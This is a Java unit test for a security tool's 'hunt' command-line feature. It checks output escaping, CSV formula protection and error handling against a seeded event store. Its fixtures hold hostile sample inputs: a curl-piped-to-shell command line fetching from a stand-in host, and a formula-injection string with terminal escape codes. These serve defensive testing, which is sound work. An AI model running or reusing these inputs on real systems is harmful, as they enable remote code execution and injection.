package io.vigil.collector.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.protobuf.Struct;
import com.google.protobuf.util.JsonFormat;
import io.vigil.collector.api.OperatorFixture;
import io.vigil.collector.store.EventStore;
import io.vigil.collector.store.StreamRef;
import io.vigil.proto.v1.Event;
import io.vigil.proto.v1.NetworkConnection;
import io.vigil.proto.v1.NetworkConnection.Direction;
import io.vigil.proto.v1.ProcessExec;
import io.vigil.proto.v1.ProcessRef;
import io.vigil.proto.v1.Transport;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code vigilctl hunt} against the real operator API over a real store: the table, CSV and JSON
 * outputs (escaping, formula protection, one object a line), the summary, and the errors a user
 * sees.
 */
class HuntCliTest {
  private static final long NOW = System.currentTimeMillis() * 1_000_000L;
  private static final String ESC = "\u001b]0;owned\u0007";

  @TempDir Path dir;
  private final CtlRunner vigilctl = new CtlRunner(() -> NOW);
  private OperatorFixture api;
  private Path viewer;

  @BeforeEach
  void start() throws Exception {
    api = OperatorFixture.start(dir);
    viewer = api.tokenFile("vera", api.token("vera", "viewer"));
    try (EventStore store = EventStore.open(api.db)) {
      store.agents().upsert("agent-1", "web1", null, "1.0", "e1", NOW, null);
      StreamRef s = store.events().stream("agent-1", "e1", 1);
      ProcessRef bash = proc("ent-bash", 100, "/usr/bin/bash", "bash -c curl -s http://x/i | sh");
      ProcessRef curl = proc("ent-curl", 101, "/usr/bin/curl", "curl -s http://x/i");
      ProcessRef evil =
          proc("ent-evil", 102, "/tmp/x", "=HYPERLINK(\"http://evil\",\"a,b\")" + ESC);
      List<Event> events =
          List.of(
              exec(NOW - 5_000, curl, bash),
              exec(NOW - 4_000, evil, bash),
              connection(
                  NOW - 3_000,
                  Direction.DIRECTION_OUTBOUND,
                  "10.0.0.5",
                  40000,
                  "127.0.0.77",
                  8080,
                  curl),
              connection(NOW - 2_000, Direction.DIRECTION_LISTEN, "", 0, "0.0.0.0", 4444, evil));
      long seq = 0;
      for (Event e : events) {
        store
            .events()
            .insertEvent(
                s.streamId(),
                ++seq,
                e.getPayloadCase().getNumber(),
                e.getEventTimeNs(),
                NOW,
                e.toByteArray());
      }
      store.commit();
    }
  }

  @AfterEach
  void stop() {
    api.close();
  }

  private static ProcessRef proc(String entity, int pid, String image, String commandLine) {
    return ProcessRef.newBuilder()
        .setEntityId(entity)
        .setPid(pid)
        .setImage(image)
        .setCommandLine(commandLine)
        .setUser("alice")
        .setUid(1000)
        .build();
  }

  private static Event exec(long t, ProcessRef p, ProcessRef parent) {
    return Event.newBuilder()
        .setEventTimeNs(t)
        .setProcessExec(ProcessExec.newBuilder().setProcess(p).setParent(parent))
        .build();
  }

  private static Event connection(
      long t, Direction d, String src, int sport, String dst, int dport, ProcessRef p) {
    return Event.newBuilder()
        .setEventTimeNs(t)
        .setConnection(
            NetworkConnection.newBuilder()
                .setDirection(d)
                .setTransport(Transport.TRANSPORT_TCP)
                .setSourceIp(src)
                .setSourcePort(sport)
                .setDestinationIp(dst)
                .setDestinationPort(dport)
                .setProcess(p))
        .build();
  }

  private int ctl(String... args) {
    return vigilctl.ctl(api.ctlArgs(viewer), args);
  }

  private String out() {
    return vigilctl.out();
  }

  private String err() {
    return vigilctl.err();
  }

  @Test
  void aViewerHuntsProcessesTalkingToAnAddressAsATable() {
    assertEquals(0, ctl("hunt", "DestinationIp = 127.0.0.77", "--since", "1d"), err());
    List<String> lines = out().lines().toList();
    assertEquals(3, lines.size(), out());
    assertTrue(lines.get(0).startsWith("TIME"), lines.get(0));
    assertTrue(lines.get(0).contains("ENTITY"), lines.get(0));
    assertTrue(lines.get(1).contains("web1"), lines.get(1));
    assertTrue(lines.get(1).contains("ent-curl"), lines.get(1));
    assertTrue(
        lines.get(1).contains("outbound tcp 10.0.0.5:40000 → 127.0.0.77:8080"), lines.get(1));
    // Every stored row read counts as searched, whether or not its kind could match.
    assertTrue(lines.get(2).startsWith("1 row, 4 events searched"), lines.get(2));
  }

  @Test
  void newListeningPortsAndTheirProcess() {
    assertEquals(0, ctl("hunt", "kind = connection and direction = listen"), err());
    assertTrue(out().contains("listen tcp 0.0.0.0:4444"), out());
    assertFalse(out().contains("127.0.0.77"), out());
  }

  @Test
  void theTableEscapesControlCharactersOfEventContent() {
    assertEquals(0, ctl("hunt", "kind = exec", "--host", "web1"), err());
    assertFalse(out().contains("\u001b"), out());
    assertFalse(out().contains("\u0007"), out());
    assertTrue(out().contains("ent-evil"), out());
    assertTrue(out().contains("2 rows"), out());
  }

  @Test
  void csvIsRfc4180WithFormulaProtectionAndTheSummaryOnStandardError() {
    assertEquals(
        0,
        ctl(
            "hunt",
            "kind = exec and Image = /tmp/x",
            "--csv",
            "--fields",
            "time,host,CommandLine,pid"),
        err());
    String csv = out();
    assertTrue(csv.startsWith("time,host,CommandLine,pid\r\n"), csv);
    String[] records = csv.split("\r\n");
    assertEquals(2, records.length, csv);
    // A leading = gets a ', quotes are doubled, the comma is quoted, ESC and BEL are spelled out.
    assertTrue(
        records[1].endsWith(
            ",web1,\"'=HYPERLINK(\"\"http://evil\"\",\"\"a,b\"\")\\x1b]0;owned\\x07\",102"),
        records[1]);
    assertTrue(err().contains("1 row"), err());
  }

  @Test
  void jsonIsOneObjectPerRowWithTheWholeEvent() throws Exception {
    assertEquals(0, ctl("hunt", "kind = exec", "--json"), err());
    List<String> lines = out().lines().toList();
    assertEquals(2, lines.size(), out());
    for (String line : lines) {
      Struct.Builder b = Struct.newBuilder();
      JsonFormat.parser().merge(line, b);
      assertEquals("web1", b.getFieldsOrThrow("hostname").getStringValue());
      assertTrue(b.getFieldsOrThrow("event").getStructValue().containsFields("process_exec"));
      assertFalse(line.contains("\u001b"), line);
    }
    // Newest first: the /tmp/x start was stored after curl's.
    assertTrue(lines.get(0).contains("ent-evil"), lines.get(0));
    assertTrue(err().contains("2 rows"), err());
  }

  @Test
  void aMisspeltFieldIsAUsageErrorWithThePositionAndALikelyIntent() {
    assertEquals(2, ctl("hunt", "kind = exec and Comandline contains curl"));
    assertTrue(err().contains("character 17"), err());
    assertTrue(err().contains("did you mean \"CommandLine\"?"), err());
    assertEquals(2, ctl("hunt", "kind = exec", "--fields", "Imgae"));
    assertTrue(err().contains("did you mean \"Image\"?"), err());
  }

  @Test
  void anUnknownHostIsNotFoundAndTheLimitIsBounded() {
    assertEquals(1, ctl("hunt", "kind = exec", "--host", "nowhere"));
    assertTrue(err().contains("no agent with host name or agent id \"nowhere\""), err());
    // Host names resolve as everywhere else in vigilctl (AgentCalls): letter case significant.
    assertEquals(1, ctl("hunt", "kind = exec", "--host", "WEB1"));
    assertTrue(err().contains("no agent with host name or agent id \"WEB1\""), err());
    assertEquals(0, ctl("hunt", "kind = exec", "--host", "web1"), err());
    assertEquals(2, ctl("hunt", "kind = exec", "--limit", "10001"));
    assertEquals(0, ctl("hunt", "kind = exec", "--limit", "1"), err());
    assertTrue(out().contains("row limit reached"), out());
  }

  @Test
  void theSummarySaysWhetherTheScanBudgetOrTheTimeLimitStoppedTheHunt() {
    io.vigil.proto.v1.HuntSummary.Builder s =
        io.vigil.proto.v1.HuntSummary.newBuilder()
            .setScanned(7)
            .setBudgetExhausted(true)
            .setCoveredSinceNs(NOW);
    assertTrue(
        HuntCommand.summaryLine(s.build()).contains("operator.hunt.max_scanned_events"),
        HuntCommand.summaryLine(s.build()));
    String late = HuntCommand.summaryLine(s.setDeadlineReached(true).build());
    assertTrue(late.contains("operator.hunt.max_duration"), late);
    assertFalse(late.contains("max_scanned_events"), late);
  }
}
